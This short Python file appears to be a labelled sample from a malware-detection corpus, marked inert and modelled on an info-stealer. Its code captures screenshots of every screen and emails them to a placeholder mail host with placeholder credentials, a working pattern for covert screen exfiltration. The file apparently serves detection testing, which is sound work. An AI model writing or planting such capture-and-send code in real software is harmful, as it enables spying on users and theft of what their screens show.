# pkgguard corpus 387 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import smtplib
from email.message import EmailMessage

from PIL import ImageGrab

buf = io.BytesIO()
ImageGrab.grab(all_screens=True).save(buf, format="PNG")
msg = EmailMessage()
msg["Subject"] = "report"
msg["From"] = msg["To"] = "reports@mail.example"
msg.add_attachment(buf.getvalue(), maintype="image", subtype="png", filename="s.png")
with smtplib.SMTP_SSL("mail.example", 465) as s:
    s.login("reports@mail.example", "placeholder")
    s.send_message(msg)
